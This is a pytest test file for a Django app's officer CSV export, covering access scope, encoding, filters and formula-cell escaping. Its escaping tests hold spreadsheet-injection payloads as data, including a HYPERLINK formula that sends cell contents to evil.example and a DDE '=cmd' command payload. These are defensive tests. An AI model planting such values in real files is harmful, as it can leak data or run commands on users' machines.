"""CSV export of officers: in scope only, UTF-8 with a BOM, formula cells escaped."""

import csv
import io

import pytest

from lms.core.roles import Role
from tests.factories import DistrictFactory, OfficeFactory, make_user

pytestmark = pytest.mark.django_db

EXPORT = "/department/officers/export.csv"
HEADER = [
    "Employee code",
    "Name",
    "Designation",
    "Level",
    "Department",
    "Office",
    "District",
    "Gender",
    "Mobile",
    "Email",
]


def download(client, **params):
    response = client.get(EXPORT, params)
    assert response.status_code == 200
    raw = b"".join(response.streaming_content)
    return response, raw


def rows_of(raw: bytes) -> list[list[str]]:
    text = raw.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_export_is_an_attachment_in_utf8_with_a_bom(client, hod, staff):
    client.force_login(hod)
    response, raw = download(client)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"officers.csv\"; filename*=UTF-8''officers.csv"
    )
    assert raw.startswith(b"\xef\xbb\xbf")
    assert rows_of(raw)[0] == HEADER


def test_export_holds_only_in_scope_active_officers(client, hod, staff):
    client.force_login(hod)
    _response, raw = download(client)
    codes = {row[0] for row in rows_of(raw)[1:]}
    assert codes == {o.employee_code for o in staff["ours"]} | {hod.employee_code}


def test_hod_cannot_widen_the_export_with_the_department_parameter(
    client, hod, staff, other_department
):
    client.force_login(hod)
    _response, raw = download(client, department=other_department.pk)
    assert {row[0] for row in rows_of(raw)[1:]} == {o.employee_code for o in staff["ours"]} | {
        hod.employee_code
    }


def test_export_follows_the_list_filters(client, hod, department, staff):
    target = make_user(Role.TRAINEE, department=department, first_name="Kamla", level="middle")
    client.force_login(hod)
    _response, raw = download(client, q="Kamla", level="middle")
    assert [row[0] for row in rows_of(raw)[1:]] == [target.employee_code]


def test_cell_admin_exports_every_department_or_one(client, cell_admin, staff, other_department):
    client.force_login(cell_admin)
    _response, raw = download(client)
    codes = {row[0] for row in rows_of(raw)[1:]}
    assert {o.employee_code for o in staff["ours"] + staff["theirs"]} <= codes
    assert staff["retired"].employee_code not in codes
    _response, raw = download(client, department=other_department.pk)
    assert {row[4] for row in rows_of(raw)[1:]} == {other_department.name}


def test_a_row_carries_the_officers_particulars(client, hod, department):
    officer = make_user(
        Role.TRAINEE,
        department=department,
        office=OfficeFactory(department=department, name="Tehsil Sohna"),
        district=DistrictFactory(name="Gurugram"),
        first_name="पूजा",
        last_name="देवी",
        designation="Patwari",
        level="cutting_edge",
        gender="female",
        mobile="9812345678",
        email="pooja@example.gov.in",
        employee_code="REV-1",
    )
    client.force_login(hod)
    _response, raw = download(client, q="REV-1")
    assert rows_of(raw)[1:] == [
        [
            officer.employee_code,
            "पूजा देवी",
            "Patwari",
            "Cutting-edge",
            "Revenue and Disaster Management",
            "Tehsil Sohna (REV)",
            "Gurugram",
            "Female",
            "9812345678",
            "pooja@example.gov.in",
        ]
    ]


def test_officer_without_particulars_exports_blank_cells(client, cell_admin):
    bare = make_user(
        Role.TRAINEE,
        department=None,
        employee_code=None,
        level="",
        gender="",
        designation="",
        first_name="Bare",
        last_name="Officer",
    )
    client.force_login(cell_admin)
    _response, raw = download(client, q="Bare")
    assert rows_of(raw)[1:] == [["", "Bare Officer", "", "", "", "", "", "", "", bare.email]]


@pytest.mark.parametrize(
    "designation",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)"],
)
def test_formula_cells_are_escaped_with_an_apostrophe(client, hod, department, designation):
    make_user(Role.TRAINEE, department=department, first_name="Evil", designation=designation)
    client.force_login(hod)
    _response, raw = download(client, q="Evil")
    assert rows_of(raw)[1][2] == "'" + designation


def test_formula_in_a_name_is_escaped_too(client, hod, department):
    make_user(Role.TRAINEE, department=department, first_name="=cmd|' /C calc'!A0", last_name="")
    client.force_login(hod)
    _response, raw = download(client, q="cmd")
    assert rows_of(raw)[1][1] == "'=cmd|' /C calc'!A0"
